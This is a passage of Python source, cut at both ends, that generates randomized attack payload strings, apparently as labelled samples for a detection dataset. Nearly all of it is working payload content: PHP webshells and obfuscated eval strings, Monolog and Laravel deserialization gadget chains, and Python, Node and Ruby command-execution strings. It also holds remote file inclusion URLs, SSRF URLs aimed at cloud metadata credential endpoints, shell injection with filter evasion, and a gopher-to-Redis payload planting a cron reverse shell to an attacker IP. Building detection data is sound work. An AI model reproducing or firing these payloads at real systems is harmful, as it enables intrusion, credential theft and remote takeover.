                "#{T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('<<c>>').getInputStream(), T(java.nio.charset.Charset).forName('UTF-8'))}",
                c=ucmd(),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "${T(java.lang.Class).forName('java.la'+'ng.Run'+'time').getMethod('getRu'+'ntime').invoke(null).exec('<<c>>')}",
                c=ucmd(),
            ),
            True,
        )
    )
    L.append(lambda: A(S("@java.lang.Runtime@getRuntime().exec('<<c>>')", c=ucmd())))
    return L


PHPF = [
    "index.php",
    "config.php",
    "../config/database.php",
    "/etc/passwd",
    "includes/db.inc.php",
    "../.env",
    "wp-config.php",
    "admin/login.php",
    "/var/www/html/config.inc.php",
    "app/etc/env.php",
    "../../configuration.php",
    "settings.php",
]
PFN = ["system", "passthru", "shell_exec", "exec"]


def php_s(v):
    if isinstance(v, bool):
        return "b:%d;" % int(v)
    if isinstance(v, int):
        return "i:%d;" % v
    if v is None:
        return "N;"
    if isinstance(v, str) and v.startswith("RAW:"):
        return v[4:]
    return 's:%d:"%s";' % (len(v.encode("utf-8")), v)


def php_obj(cls, props):
    return 'O:%d:"%s":%d:{%s}' % (len(cls), cls, len(props), "".join(php_s(k) + php_s(v) for k, v in props))


def g_php():
    L = []
    L.append(
        lambda: A(
            S(
                "<?php <<fn>>($_GET['<<v>>']); ?>",
                fn=pick(PFN),
                v=pick(["c", "cmd", "x", "q", "0", "exec", alpha(1, 3)]),
            )
        )
    )
    L.append(lambda: A(S("<?= `<<c>>` ?>", c=ucmd())))
    L.append(lambda: A(S("php://filter/convert.base64-encode/resource=<<f>>", f=pick(PHPF))))
    L.append(lambda: A(S("php://filter/read=string.rot13|convert.base64-encode/resource=<<f>>", f=pick(PHPF)), True))
    L.append(
        lambda: A(
            S("php://filter/convert.iconv.UTF-8.UTF-16LE|convert.base64-encode/resource=<<f>>", f=pick(PHPF)), True
        )
    )
    L.append(lambda: A(rcase("php://filter") + "/resource=" + pick(PHPF), True))
    L.append(lambda: A("data://text/plain;base64," + b64(S("<?php <<fn>>('<<c>>'); ?>", fn=pick(PFN), c=ucmd())), True))
    L.append(lambda: A(S("data:text/plain,<?php <<fn>>('<<c>>');?>", fn=pick(PFN), c=ucmd())))
    L.append(
        lambda: A("expect://" + pick(["id", "whoami", "hostname", "uname -a", "ls -la /tmp", "cat /etc/passwd", "pwd"]))
    )
    L.append(
        lambda: A(
            S("phar://./uploads/<<t>>.<<e>>/<<u>>.txt", t=tok(), e=pick(["jpg", "gif", "png", "pdf"]), u=tok(2, 4))
        )
    )
    L.append(lambda: A(S("phar:///var/www/html/storage/avatars/<<n>>.jpg", n=ri(1000, 99999)), True))
    L.append(lambda: A(S("$<<a>>='sy'.'st'.'em';$<<a>>('<<c>>');", a=alpha(1, 3), c=ucmd()), True))
    L.append(lambda: A(S("$_GET['<<a>>']($_GET['<<b>>']);", a=alpha(1, 2), b=alpha(1, 2) + str(ri(0, 9)))))
    L.append(lambda: A(S("${'_GE'.'T'}['<<a>>'](${'_GE'.'T'}['<<b>>']);", a=ri(0, 4), b=ri(5, 9)), True))
    L.append(
        lambda: (
            lambda fn: A(
                S("$<<a>>=str_rot13('<<r>>');$<<a>>('<<c>>');", a=alpha(1, 3), r=codecs.encode(fn, "rot13"), c=ucmd()),
                True,
            )
        )(pick(PFN))
    )
    L.append(
        lambda: A(S("preg_replace('/<<t>>/e','<<fn>>(\"<<c>>\")','<<t>>');", t=alpha(2, 4), fn=pick(PFN), c=ucmd()))
    )
    L.append(lambda: A(S("/<<t>>/e\x00", t=alpha(2, 6)), True, ["query", "form", "json", "cookie"]))
    L.append(lambda: A(S("assert(\"<<fn>>('<<c>>')\");", fn=pick(PFN), c=ucmd())))
    L.append(lambda: A(S("'.assert($_POST['<<v>>']).'", v=alpha(1, 4))))
    L.append(
        lambda: A(S("create_function('$<<a>>','return <<fn>>(\"<<c>>\");');", a=alpha(1, 2), fn=pick(PFN), c=ucmd()))
    )
    L.append(lambda: A(S("<<n>>;}<<fn>>('<<c>>');/*", n=ri(0, 9), fn=pick(PFN), c=ucmd()), True))

    def ser_monolog():
        c = ucmd()
        inner = php_obj(
            "Monolog\\Handler\\BufferHandler",
            [
                ("\x00*\x00handler", "RAW:N;"),
                ("\x00*\x00bufferSize", -1),
                ("\x00*\x00buffer", "RAW:a:1:{i:0;a:2:{i:0;%s" % php_s(c) + 's:5:"level";N;}}'),
                ("\x00*\x00processors", 'RAW:a:2:{i:0;s:7:"current";i:1;s:6:"system";}'),
            ],
        )
        return A(
            php_obj("Monolog\\Handler\\SyslogUdpHandler", [("\x00*\x00socket", "RAW:" + inner)]),
            True,
            ["cookie", "form", "json", "query", "multipart"],
        )

    L.append(ser_monolog)

    def ser_laravel():
        ev = php_obj("Illuminate\\Broadcasting\\BroadcastEvent", [("connection", ucmd())])
        disp = php_obj("Illuminate\\Bus\\Dispatcher", [("\x00*\x00queueResolver", pick(PFN))])
        return A(
            php_obj(
                "Illuminate\\Broadcasting\\PendingBroadcast",
                [("\x00*\x00events", "RAW:" + disp), ("\x00*\x00event", "RAW:" + ev)],
            ),
            True,
            ["cookie", "form", "json", "query"],
            param=pick(["laravel_session", "data", "payload"]),
        )

    L.append(ser_laravel)

    def ser_priv():
        cls = pick(["User", "Session", "UserPrefs", "AuthToken", "Account"])
        s = php_obj(
            cls,
            [
                ("username", pick(["admin", "administrator", "root"])),
                ("isAdmin", True),
                ("role", "administrator"),
                ("id", ri(1, 5)),
            ],
        )
        if R.random() < 0.5:
            return A(s.replace("O:", "O:+", 1), True, ["cookie", "form", "query", "json"])
        return A(s, False, ["cookie", "form", "query", "json"])

    L.append(ser_priv)

    def ser_logger():
        cls = pick(["Logger", "CacheWriter", "TempFile", "FileLog", "ViewCache"])
        s = php_obj(
            cls,
            [
                ("logFile", "/var/www/html/%s.php" % tok()),
                ("logData", "<?php %s($_GET['%s']); ?>" % (pick(PFN), alpha(1, 2))),
            ],
        )
        return A(
            pick([s, "a:1:{i:0;%s}" % s]),
            False,
            ["cookie", "form", "query", "json", "multipart", "header"],
            hdr="X-Forwarded-For",
        )

    L.append(ser_logger)

    def chr_obf():
        code = "%s('%s');" % (pick(PFN), short_cmd())
        return A("eval(" + ".".join("chr(%d)" % ord(ch) for ch in code) + ");", True)

    L.append(chr_obf)

    def chr_var():
        fn = pick(PFN)
        return A("$%s=%s;$%s('%s');" % ("f", ".".join("chr(%d)" % ord(ch) for ch in fn), "f", short_cmd()), True)

    L.append(chr_var)
    L.append(lambda: A('"' + "".join("\\x%02x" % ord(ch) for ch in pick(PFN)) + "\"('" + ucmd() + "');", True))
    L.append(lambda: A(S('";echo `<<c>>`;//', c=ucmd())))
    L.append(lambda: A(S("{${<<fn>>('<<c>>')}}", fn=pick(PFN), c=ucmd()), True))
    L.append(lambda: A(S("';<<fn>>('<<c>>');//", fn=pick(PFN), c=ucmd())))
    L.append(lambda: A(S("\".<<fn>>('<<c>>').\"", fn=pick(PFN), c=ucmd())))
    L.append(lambda: A(S("file_put_contents('<<t>>.php','<?php @eval($_POST[<<v>>]);?>');", t=tok(), v=alpha(1, 3))))
    L.append(lambda: A(S("<script language=\"php\"><<fn>>('<<c>>');</script>", fn=pick(PFN), c=ucmd()), True))
    L.append(lambda: A(S("<<o>> <<fn>>('<<c>>'); ?>", o=rcase("<?php"), fn=pick(PFN), c=ucmd()), True))
    L.append(lambda: A(S("call_user_func('<<fn>>','<<c>>');", fn=pick(PFN), c=ucmd())))
    L.append(lambda: A(S("array_map('<<fn>>',array('<<c>>'));", fn=pick(PFN), c=ucmd())))
    L.append(lambda: A(S("base64_decode('<<b>>')('<<c>>');", b=b64(pick(PFN)), c=ucmd()), True))

    def gz():
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        raw = co.compress(("%s('%s');" % (pick(PFN), ucmd())).encode()) + co.flush()
        return A("eval(gzinflate(base64_decode('%s')));" % b64(raw), True)

    L.append(gz)
    L.append(
        lambda: A(
            S(
                "$<<h>>=popen('<<c>>','r');echo fread($<<h>>,<<n>>);",
                h=alpha(1, 2),
                c=ucmd(),
                n=pick([1024, 2048, 4096, 8192]),
            )
        )
    )
    L.append(
        lambda: A(
            S("<?php eval(base64_decode($_REQUEST['<<v>>'])); ?>", v=alpha(1, 4)),
            False,
            ["multipart"],
            file=True,
            filename=tok() + pick([".php", ".phtml", ".php5", ".php.jpg", ".pHp"]),
            pctype=pick(["image/jpeg", "application/x-php", "image/gif"]),
        )
    )
    return L


def g_code():
    L = []
    # python
    L.append(lambda: A(S("__import__('os').system('<<c>>')", c=ucmd())))
    L.append(lambda: A('__import__("subprocess").check_output(%s)' % json.dumps(ucmd().split())))
    L.append(
        lambda: A(
            S("eval(compile('import os;os.<<f>>(\"<<c>>\")','<string>','exec'))", f=pick(["system", "popen"]), c=ucmd())
        )
    )
    L.append(lambda: A(S("getattr(__import__('o'+'s'),'sys'+'tem')('<<c>>')", c=ucmd()), True))
    L.append(
        lambda: A(
            S(
                "[x for x in ().__class__.__base__.__subclasses__() if x.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').popen('<<c>>').read()",
                c=ucmd(),
            )
        )
    )
    L.append(
        lambda: A(S("__builtins__.__dict__['ev'+'al'](\"__import__('os').popen('<<c>>').read()\")", c=ucmd()), True)
    )
    L.append(lambda: A("exec(__import__('base64').b64decode('%s'))" % b64("import os;os.system('%s')" % ucmd()), True))
    L.append(lambda: A(S("import subprocess;subprocess.run('<<c>>',shell=True)", c=ucmd())))
    L.append(
        lambda: A(
            S(
                "open('<<f>>').read()",
                f=pick(
                    [
                        "/etc/passwd",
                        "/proc/self/environ",
                        "/root/.aws/credentials",
                        "/app/.env",
                        "/etc/shadow",
                        "settings.py",
                    ]
                ),
            )
        )
    )
    L.append(
        lambda: A(
            b64(S("cposix\nsystem\n(S'<<c>>'\ntR.", c=ucmd())),
            True,
            ["cookie", "form", "json", "query"],
            param=pick(["session", "state", "data"]),
        )
    )
    L.append(
        lambda: A(
            "exec('" + "".join("\\x%02x" % ord(ch) for ch in "import os;os.system('%s')" % short_cmd()) + "')", True
        )
    )
    L.append(
        lambda: A(S("getattr(getattr(__builtins__,'__imp'+'ort__')('os'),'popen')('<<c>>').read()", c=ucmd()), True)
    )
    L.append(lambda: A(S("(lambda: __import__('os').system('<<c>>'))()", c=ucmd())))
    L.append(lambda: A(S("__import__('os').environ.get('<<v>>')", v=pick(ENVV))))
    # node
    L.append(lambda: A(S("require('child_process').execSync('<<c>>').toString()", c=ucmd())))
    L.append(lambda: A(S("process.mainModule.require('child_process').execSync('<<c>>')", c=ucmd())))
    L.append(lambda: A(S("global.process.mainModule.constructor._load('child_process').exec('<<c>>')", c=ucmd())))
    L.append(
        lambda: A(
            S("Function('return process')().mainModule.require('child_process').execSync('<<c>>').toString()", c=ucmd())
        )
    )
    L.append(lambda: A(S("this.constructor.constructor('return process')().env.<<v>>", v=pick(ENVV))))
    L.append(
        lambda: A(
            S(
                "[].constructor.constructor(\"return process.mainModule.require('child_process').execSync('<<c>>')\")()",
                c=ucmd(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            "eval(Buffer.from('%s','base64').toString())" % b64("require('child_process').execSync('%s')" % ucmd()),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "require('fs').readFileSync('<<f>>','utf8')",
                f=pick(["/etc/passwd", "/proc/self/environ", ".env", "/etc/hosts", "config/secrets.json"]),
            )
        )
    )
    L.append(lambda: A(S('require("child_process").spawnSync("sh",["-c","<<c>>"]).stdout.toString()', c=ucmd())))
    L.append(lambda: A(S("import('child_process').then(m=>m.execSync('<<c>>'))", c=ucmd())))
    L.append(
        lambda: A(S("process['mainModule']['require']('child'+'_process')['exec'+'Sync']('<<c>>')", c=ucmd()), True)
    )
    L.append(lambda: A(S("\\u0072equire('child_process').execSync('<<c>>')", c=ucmd()), True))
    L.append(lambda: A(S("'+require('child_process').execSync('<<c>>')+'", c=ucmd())))
    L.append(
        lambda: A(
            S("new Function(\"return this.process\")().mainModule.require('child_process').execSync('<<c>>')", c=ucmd())
        )
    )
    # ruby
    L.append(lambda: A(S("Kernel.system('<<c>>')", c=ucmd())))
    L.append(lambda: A(S("IO.popen('<<c>>').read", c=ucmd())))
    L.append(lambda: A(S("%x(<<c>>)", c=ucmd())))
    L.append(lambda: A(S("#{`<<c>>`}", c=ucmd())))
    L.append(lambda: A(S("Object.instance_eval(\"system('<<c>>')\")", c=ucmd())))
    L.append(lambda: A(S("Kernel.send(:<<m>>, '<<c>>')", m=pick(["system", "exec", "spawn"]), c=ucmd())))
    L.append(lambda: A(S("Object.const_get(:Kernel).public_send(:system, '<<c>>')", c=ucmd()), True))
    L.append(lambda: A(S("Kernel.method(:system).call('<<c>>')", c=ucmd()), True))
    L.append(lambda: A(S("open('|<<c>>').read", c=ucmd()), True))
    L.append(
        lambda: A(
            S(
                "File.read('<<f>>')",
                f=pick(["/etc/passwd", "config/master.key", "/proc/self/environ", "config/database.yml"]),
            )
        )
    )
    L.append(lambda: A("eval(Base64.decode64('%s'))" % b64("system('%s')" % ucmd()), True))
    L.append(lambda: A(S("Object.class_eval { system('<<c>>') }", c=ucmd())))
    L.append(
        lambda: A(
            "Marshal.load(Base64.decode64('%s'))"
            % b64(b"\x04\bo:\x15Gem::Requirement\x06:\x10@requirements" + rbytes(ri(16, 40))),
            True,
        )
    )
    return L


def g_rfi():
    L = []
    NM = lambda: pick(["shell", "c99", "r57", "cmd", "x", "inc", "b", "wso", "backdoor", "up", tok(2, 5)])
    L.append(lambda: A(S("http://<<h>>/<<n>>.txt?", h=ahost(), n=NM())))
    L.append(
        lambda: A(
            S(
                "<<s>>://<<h>>/<<d>>/<<n>>.php",
                s=pick(["http", "https"]),
                h=ahost(),
                d=pick(["inc", "files", "tmp", "img"]),
                n=NM(),
            )
        )
    )
    L.append(
        lambda: A(
            S("http://<<ip>>/<<d>>/<<n>>.txt\x00", ip=aip(), d=pick(["a", "pub", "x"]), n=NM()),
            True,
            ["query", "form", "json", "cookie", "path"],
        )
    )
    L.append(lambda: A(S("http://<<h>>/<<n>>.txt%00", h=ahost(), n=NM()), True))
    L.append(lambda: A(S("https://<<h>>/<<n>>.txt#", h=ahost(), n=NM())))
    L.append(lambda: A(S("//<<h>>/<<n>>.php", h=ahost(), n=NM()), True))
    L.append(
        lambda: A(S("\\\\<<ip>>\\<<sh>>\\<<n>>.php", ip=aip(), sh=pick(["share", "pub", "tmp", "www"]), n=NM()), True)
    )
    L.append(lambda: A(S("\\\\<<h>>@SSL\\DavWWWRoot\\<<n>>.php", h=ahost(), n=NM()), True))
    L.append(
        lambda: A(
            S(
                "ftp://<<u>>:<<p>>@<<h>>/pub/<<n>>.txt",
                u=pick(["anonymous", "ftp", alpha(3, 6)]),
                p=tok(),
                h=ahost(),
                n=NM(),
            )
        )
    )
    L.append(lambda: A(S("ftp://<<ip>>/<<n>>.php", ip=aip(), n=NM())))
    L.append(lambda: A("data://text/plain;base64," + b64("<?php %s($_GET['%s']); ?>" % (pick(PFN), alpha(1, 2))), True))
    L.append(lambda: A(S("data:;base64,<<b>>", b=b64("<?php echo shell_exec('%s'); ?>" % ucmd())), True))
    L.append(lambda: A(S("<<s>>://<<h>>/<<n>>.<<e>>", s=rcase("http"), h=ahost(), n=NM(), e=rcase("php")), True))
    L.append(lambda: A(S("HTTPS://<<h>>/<<n>>.TXT?", h=ahost().upper(), n=NM().upper()), True))
    L.append(lambda: A(S("http%3A%2F%2F<<h>>%2F<<n>>.txt", h=ahost(), n=NM()), True))
    L.append(lambda: A(S("http:%2f%2f<<h>>/<<n>>.php?", h=ahost(), n=NM()), True))
    L.append(
        lambda: A(
            S(
                "http://<<h>>:<<port>>/<<n>>.php?cmd=<<c>>&",
                h=ahost(),
                port=aport(),
                n=NM(),
                c=pick(["id", "whoami", "ls", "uname"]),
            )
        )
    )
    L.append(lambda: A(S("smb://<<ip>>/<<sh>>/<<n>>.php", ip=aip(), sh=pick(["share", "public", "x"]), n=NM())))
    L.append(lambda: A(S("zip://uploads/<<t>>.zip#<<n>>.php", t=tok(), n=NM()), True))
    L.append(lambda: A(S("compress.zlib://http://<<h>>/<<n>>.txt", h=ahost(), n=NM()), True))
    L.append(lambda: A(S("php://filter/resource=http://<<h>>/<<n>>.txt", h=ahost(), n=NM()), True))
    L.append(
        lambda: A(
            S(
                "https://pastebin.com/raw/<<t>>?",
                t="".join(R.choice(string.ascii_letters + string.digits) for _ in range(8)),
            ),
            True,
        )
    )
    L.append(lambda: A(S("http://<<d>>/<<n>>.txt?", d=dec_ip(aip()), n=NM()), True))
    L.append(lambda: A(S("http:\\\\<<h>>\\<<n>>.php", h=ahost(), n=NM()), True))
    L.append(lambda: A(S("http://<<h>>/<<n>>.jpg?.php", h=ahost(), n=NM())))
    L.append(lambda: A(S("\\\\<<ip>>\\c$\\<<n>>.php", ip=aip(), n=NM()), True))
    L.append(lambda: A(S("http://<<h>>/<<n>>.txt??", h=ahost(), n=NM())))
    L.append(lambda: A(S("https://<<h>>/<<n>>.inc", h=ahost(), n=NM())))
    L.append(
        lambda: A(
            S("http://<<h>>/<<n>>.txt?/../../<<f>>.php", h=ahost(), n=NM(), f=pick(["index", "config", "main"])), True
        )
    )
    return L


def g_ssrf():
    L = []
    P = lambda: pick(
        [
            "admin",
            "",
            "actuator/env",
            "server-status",
            "internal/debug",
            "api/v1/secrets",
            "metrics",
            "manager/html",
            "console",
        ]
    )
    L.append(lambda: A(S("http://[::1]:<<port>>/<<p>>", port=pick([80, 8080, 8000, 9000, 3000, 5000]), p=P())))
    L.append(
        lambda: A(S("http://[0:0:0:0:0:ffff:127.0.0.1]:<<port>>/<<p>>", port=pick([80, 8080, 8500, 9200]), p=P()), True)
    )
    L.append(lambda: A(S("http://[::ffff:7f00:1]/<<p>>", p=P()), True))
    L.append(
        lambda: A(
            S("http://[::ffff:a9fe:a9fe]/latest/meta-data/<<m>>", m=pick(["", "hostname", "iam/", "public-keys/"])),
            True,
        )
    )
    L.append(lambda: A(S("http://[0000::1]:<<port>>/<<p>>", port=pick([80, 8080, 6379]), p=P()), True))
    L.append(
        lambda: A(
            S(
                "http://<<d>>/<<p>>",
                d=pick(
                    [
                        "2130706433",
                        "2852039166",
                        dec_ip("10.%d.%d.%d" % (ri(0, 255), ri(0, 255), ri(1, 254))),
                        dec_ip("192.168.%d.%d" % (ri(0, 9), ri(1, 254))),
                    ]
                ),
                p=P(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "http://<<o>>/<<p>>",
                o=pick(
                    [
                        "0177.0.0.1",
                        "0177.00.00.01",
                        "0251.0376.0251.0376",
                        oct_ip("10.0.%d.%d" % (ri(0, 9), ri(1, 254))),
                    ]
                ),
                p=P(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "http://<<x>>:<<port>>/<<p>>",
                x=pick(
                    [
                        "0x7f.0x0.0x0.0x1",
                        "0x7f000001",
                        "0xa9fea9fe",
                        "0xA9.0xFE.0xA9.0xFE",
                        hex_ip("172.16.%d.%d" % (ri(0, 31), ri(1, 254))),
                    ]
                ),
                port=pick([80, 8080]),
                p=P(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "http://<<m>>/<<p>>",
                m=pick(["127.1", "127.0.1", "0x7f.0.0.01", "169.254.43518", "0177.1", "10.1"]),
                p=P(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "http://<<z>>:<<port>>/<<p>>",
                z=pick(["0", "0.0.0.0", "localhost", "127.0.0.1"]),
                port=pick([22, 25, 3306, 5432, 6379, 8080, 9200, 11211, 2375]),
                p=P(),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "http://<<t>>127.0.0.1.nip.io:<<port>>/<<p>>",
                t=pick(["", tok() + "."]),
                port=pick([80, 8080, 8000]),
                p=P(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "http://169.254.169.254.sslip.io/latest/meta-data/<<m>>",
                m=pick(["", "iam/security-credentials/", "user-data"]),
            ),
            True,
        )
    )
    L.append(
        lambda: A(S("http://7f000001.<<h>>.rbndr.us:<<port>>/<<p>>", h=hexs(8), port=pick([80, 8080]), p=P()), True)
    )
    L.append(lambda: A(S("http://localtest.me:<<port>>/<<p>>", port=pick([80, 8080, 8443, 9000]), p=P()), True))
    L.append(lambda: A(S("http://10-0-<<a>>-<<b>>.sslip.io/<<p>>", a=ri(0, 9), b=ri(1, 254), p=P()), True))
    L.append(
        lambda: A(
            S(
                "http://169.254.169.254/latest/meta-data/iam/security-credentials/<<r>>",
                r=pick(["", "ec2-default", "app-role", "s3-reader", tok()]),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "http://169.254.169.254/latest/<<x>>",
                x=pick(["user-data", "api/token", "dynamic/instance-identity/document", "meta-data/hostname"]),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "http://metadata.google.internal/computeMetadata/v1/<<x>>",
                x=pick(
                    [
                        "instance/service-accounts/default/token",
                        "project/attributes/ssh-keys?alt=json",
                        "instance/attributes/kube-env",
                        "instance/hostname",
                    ]
                ),
            ),
            False,
            None,
            xh={"Metadata-Flavor": "Google"} if R.random() < 0.5 else {},
        )
    )
    L.append(
        lambda: A(
            S(
                "http://169.254.169.254/metadata/identity/oauth2/token?api-version=<<v>>&resource=https://management.azure.com/",
                v=pick(["2018-02-01", "2019-08-01", "2021-02-01"]),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "http://100.100.100.200/latest/meta-data/<<x>>",
                x=pick(["ram/security-credentials/", "instance-id", "image-id"]),
            )
        )
    )
    L.append(lambda: A(S("http://169.254.170.2/v2/credentials/<<u>>", u=uuid4())))
    L.append(lambda: A(S("http://[fd00:ec2::254]/latest/meta-data/<<x>>", x=pick(["", "iam/info", "hostname"])), True))
    L.append(
        lambda: A(
            S(
                "https://kubernetes.default.svc/api/v1/namespaces/<<ns>>/secrets",
                ns=pick(["kube-system", "default", "prod"]),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "http://169.254.169.254/<<x>>",
                x=pick(
                    ["opc/v2/instance/", "metadata/v1.json", "openstack/latest/meta_data.json", "hetzner/v1/metadata"]
                ),
            )
        )
    )

    def gopher_redis():
        key = tok(3, 6)
        val = "\n\n*/1 * * * * bash -c 'sh -i >& /dev/tcp/%s/%d 0>&1'\n\n" % (aip(), aport())
        cmds = [
            ["flushall"],
            ["set", key, val],
            ["config", "set", "dir", "/var/spool/cron/"],
            ["config", "set", "dbfilename", "root"],
            ["save"],
        ]
        resp = "".join("*%d\r\n" % len(c) + "".join("$%d\r\n%s\r\n" % (len(a.encode()), a) for a in c) for c in cmds)
        return A("gopher://127.0.0.1:6379/_" + quote(resp, safe=""), True)

    L.append(gopher_redis)
    L.append(
        lambda: A(
            S(
                "gopher://<<i>>:25/_HELO%20<<h>>%0D%0AMAIL%20FROM%3A%3C<<a>>%3E%0D%0ARCPT%20TO%3A%3C<<b>>%3E%0D%0ADATA%0D%0A",
                i=pick(["127.0.0.1", "localhost", "10.0.0.25"]),
                h=tok(),
                a=email_addr(),
                b=email_addr(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "gopher://10.<<a>>.<<b>>.<<c>>:80/_POST%20/admin/users%20HTTP/1.1%0D%0AHost:%20internal%0D%0A%0D%0Arole=admin",
                a=ri(0, 9),
                b=ri(0, 9),
                c=ri(2, 254),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "dict://127.0.0.1:<<port>>/<<x>>",
                port=pick([6379, 11211, 22, 3306]),
                x=pick(["info", "stats", "CONFIG:GET:dir", "version"]),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "file://<<h>>/<<f>>",
                h=pick(["", "localhost"]),
                f=pick(
                    [
                        "etc/passwd",
                        "etc/hosts",
                        "proc/self/environ",
                        "C:/Windows/win.ini",
                        "etc/shadow",
                        "proc/self/cmdline",
                    ]
                ),
            )
        )
    )
    L.append(
        lambda: A(S("http://<<l>>@127.0.0.1:<<port>>/<<p>>", l=pick(LEGIT_HOSTS), port=pick([80, 8080, 6379]), p=P()))
    )
    L.append(lambda: A(S("http://<<l>>:80@169.254.169.254/latest/meta-data/", l=pick(LEGIT_HOSTS))))
    L.append(lambda: A(S("http://127.0.0.1:<<port>>#@<<l>>/", port=pick([80, 8080, 9000]), l=pick(LEGIT_HOSTS)), True))
    L.append(
        lambda: A(S("http://<<l>>\\@127.0.0.1:<<port>>/<<p>>", l=pick(LEGIT_HOSTS), port=pick([80, 8080]), p=P()), True)
    )
    L.append(
        lambda: A(
            S("https://<<h>>/r?u=http://169.254.169.254/latest/meta-data/<<x>>", h=ahost(), x=pick(["", "iam/"])), True
        )
    )
    L.append(
        lambda: A(
            S(
                "http://<<h>>/302.php?to=http%3A%2F%2F127.0.0.1%3A<<port>>%2F<<p>>",
                h=ahost(),
                port=pick([80, 8080, 8500]),
                p=P(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "http://<<l>>:<<port>>/<<x>>",
                l=pick(["localhost", "LocalHost", "localhost.", "127.0.0.1"]),
                port=pick([2375, 10250, 8500, 9200, 15672, 4040]),
                x=pick(["containers/json", "pods", "v1/agent/self", "_cat/indices", "api/users", "v1/kv/?recurse"]),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "http://<<u>>/<<p>>",
                u=pick(
                    [
                        "\u2460\u2461\u2466.\u24ea.\u24ea.\u2460",
                        "\uff11\uff12\uff17.\uff10.\uff10.\uff11",
                        "\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3",
                    ]
                ),
                p=P(),
            ),
            True,
        )
    )
    L.append(lambda: A(S("ldap://127.0.0.1:389/%0astats%0aquit<<t>>", t=pick(["", "%0a"])), True))
    L.append(
        lambda: A(S("jar:http://<<h>>/<<t>>.jar!/<<f>>", h=ahost(), t=tok(), f=pick(["a.txt", "META-INF/MANIFEST.MF"])))
    )
    L.append(lambda: A(S("netdoc:///etc/<<f>>", f=pick(["passwd", "hosts", "group"]))))
    L.append(
        lambda: A(
            S(
                "http://10.<<a>>.<<b>>.<<c>>:<<port>>/<<p>>",
                a=ri(0, 255),
                b=ri(0, 255),
                c=ri(1, 254),
                port=pick([80, 8080, 8081, 9090]),
                p=P(),
            )
        )
    )
    L.append(lambda: A(S("http://192.168.<<a>>.<<b>>/<<p>>", a=ri(0, 5), b=ri(1, 254), p=P())))
    L.append(
        lambda: A(S("http://instance-data/latest/meta-data/<<x>>", x=pick(["hostname", "local-ipv4", "iam/info"])))
    )
    return L


def g_rce():
    L = []
    PRE = lambda: pick(
        [
            "8.8.8.8",
            "127.0.0.1",
            "example.com",
            "report.pdf",
            "backup.tar.gz",
            "en_US",
            "1",
            "",
            "10.0.0.1",
            "google.com",
            "img_%d.png" % ri(1, 999),
        ]
    )

    def splitq(c):
        w = c.split(" ", 1)
        cmd = w[0]
        i = ri(1, max(1, len(cmd) - 1))
        q = pick(["''", '""', "\\"])
        if q == "\\":
            cmd = cmd[:i] + "\\" + cmd[i:]
        else:
            cmd = cmd[:i] + q + cmd[i:]
        return cmd + (" " + w[1] if len(w) > 1 else "")

    L.append(lambda: A(PRE() + pick([";", "; "]) + ucmd()))
    L.append(lambda: A(PRE() + pick(["|", " | "]) + ucmd()))
    L.append(lambda: A(PRE() + pick(["&&", " && ", "||", " || "]) + ucmd()))
    L.append(lambda: A(PRE() + "$(" + ucmd() + ")"))
    L.append(lambda: A(PRE() + "`" + ucmd() + "`"))
    L.append(lambda: A(PRE() + ";" + ucmd().replace(" ", pick(["${IFS}", "$IFS$9", "${IFS%??}"])), True))
    L.append(
        lambda: A(
            PRE()
            + ";{"
            + pick(
                [
                    "cat,/etc/passwd",
                    "ls,-la,/",
                    "cat,/etc/shadow",
                    "uname,-a",
                    "wget,%s" % ahost(),
                    "ping,-c,%d,%s" % (ri(2, 5), aip()),
                ]
            )
            + "}",
            True,
        )
    )
    L.append(
        lambda: A(
            PRE() + ";" + splitq(pick(["cat /etc/passwd", "whoami", "uname -a", "id", "hostname", "ls -la /root"])),
            True,
        )
    )
    L.append(
        lambda: A(
            PRE()
            + pick([";", "|", "&&"])
            + pick(
                [
                    "w$@hoami",
                    "/???/c?t /???/p?ss??",
                    "/bin/c[a]t /e*c/pa*d",
                    "/???/?s -la /",
                    "/bin/ba?h -c id",
                    "/u?r/b?n/w?oami",
                ]
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            PRE() + pick(["\n", "\r\n", "\n\n"]) + ucmd(),
            True,
            ["query", "form", "json", "multipart", "path", "cookie"],
        )
    )
    L.append(lambda: A(PRE() + pick(["%0a", "%0A", "%0d%0a", "%0a%0d"]) + ucmd(), True))
    L.append(lambda: A(PRE() + ";$(printf '" + "".join("\\x%02x" % ord(c) for c in short_cmd()) + "')", True))
    L.append(lambda: A(PRE() + ";echo " + b64(ucmd()) + "|base64 -d|" + pick(["sh", "bash"]), True))
    L.append(lambda: A(PRE() + ";$(echo " + short_cmd()[::-1] + " | rev)", True))
    L.append(
        lambda: A(
            PRE()
            + ";X=$'"
            + "".join("\\x%02x" % ord(c) for c in "cat")
            + "';$X /etc/"
            + pick(["passwd", "hosts", "group"]),
            True,
        )
    )
    L.append(lambda: A(PRE() + pick(["&", "|", "&&", "||"]) + wcmd()))
    L.append(
        lambda: A(PRE() + "&" + "^".join(pick(["whoami", "hostname", "ipconfig", "systeminfo", "tasklist"])), True)
    )
    L.append(lambda: A(PRE() + "& cmd.exe /c " + wcmd()))
    L.append(
        lambda: A(PRE() + "& set /p=<C:\\Windows\\" + pick(["win.ini", "system.ini", "System32\\drivers\\etc\\hosts"]))
    )

